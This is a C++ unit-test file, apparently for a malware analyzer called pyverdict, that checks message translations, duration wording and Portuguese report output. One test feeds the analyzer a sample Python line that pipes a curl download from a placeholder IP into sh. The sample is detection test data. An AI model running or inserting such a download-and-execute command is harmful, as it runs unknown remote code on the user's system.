#include "language/language.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "behaviour/behaviour.h"
#include "diagnostic/diagnostic.h"
#include "language/tables.h"
#include "pyverdict.h"

namespace pyverdict::language {
namespace {

TEST(Language, EveryMessageIsThereInEveryLanguage) {
  for (std::size_t i = 0; i < kMessageCount; ++i) {
    for (const Language language : {Language::English, Language::Portuguese})
      EXPECT_FALSE(text(static_cast<Message>(i), language).empty()) << i;
  }
  for (std::size_t i = 0; i < diagnostic::kCodeCount; ++i) {
    const auto code = static_cast<diagnostic::Code>(i);
    EXPECT_NE(diagnostic::sentence(code, Language::English),
              diagnostic::sentence(code, Language::Portuguese));
    EXPECT_FALSE(diagnostic::sentence(code, Language::Portuguese).empty()) << diagnostic::name(code);
  }
}

TEST(Language, EveryBehaviourHasATitleAndAClauseInPortuguese) {
  std::string missing;
  for (const behaviour::Behaviour& row : behaviour::catalogue()) {
    const std::string_view title = behaviour_title(row.id, Language::Portuguese);
    const std::string_view does = behaviour_does(row.id, Language::Portuguese);
    if (title.empty() || does.empty()) missing += std::string(row.id) + ' ';
    const auto slot = [](std::string_view clause) {
      return clause.substr(std::min(clause.find('{'), clause.size()), 4);
    };
    if (!does.empty()) EXPECT_EQ(slot(does), slot(row.does)) << row.id;
  }
  EXPECT_EQ(missing, "") << "add these to src/language/behaviours_pt.inc";
}

TEST(Language, PlacesAreFilledInOrder) {
  EXPECT_EQ(fill(Message::RelatedHash, Language::English, {"H", "/a", "/b"}),
            "The same file (SHA-256 H) is /a here and /b there.");
  EXPECT_EQ(fill(Message::LinesTo, Language::Portuguese, {"1", "{0}"}), "linhas 1 a {0}");
}

TEST(Language, DurationsAreSaidInTheLargestUnitThatIsThereTwice) {
  EXPECT_EQ(duration(1, Language::English), "1 second");
  EXPECT_EQ(duration(119, Language::English), "119 seconds");
  EXPECT_EQ(duration(120, Language::English), "2 minutes");
  EXPECT_EQ(duration(7199, Language::Portuguese), "119 minutos");
  EXPECT_EQ(duration(3 * 86'400, Language::Portuguese), "3 dias");
}

TEST(Language, AReportInPortugueseSaysTheSame) {
  const std::string_view script = "import os\nos.system('curl http://192.0.2.1/x | sh')\n";
  const Analysis english = analyze(script);
  const Analysis portuguese = analyze(script, {.language = Language::Portuguese});
  const report::Report& en = english.items.front().report;
  const report::Report& pt = portuguese.items.front().report;
  EXPECT_EQ(en.verdict.label, pt.verdict.label);
  EXPECT_EQ(en.verdict.reasons, pt.verdict.reasons);
  ASSERT_EQ(en.evidence.size(), pt.evidence.size());
  for (std::size_t i = 0; i < en.evidence.size(); ++i) EXPECT_NE(en.evidence[i].title, pt.evidence[i].title);
  const std::string markdown = report::to_markdown(pt);
  EXPECT_EQ(markdown.rfind("# Veredicto: malicioso", 0), 0u) << markdown.substr(0, 60);
  for (const char* word : {"# Verdict", "## Why", "## Indicators", "Response plan", "Containment"})
    EXPECT_EQ(markdown.find(word), std::string::npos) << word;
}

}  // namespace
}  // namespace pyverdict::language
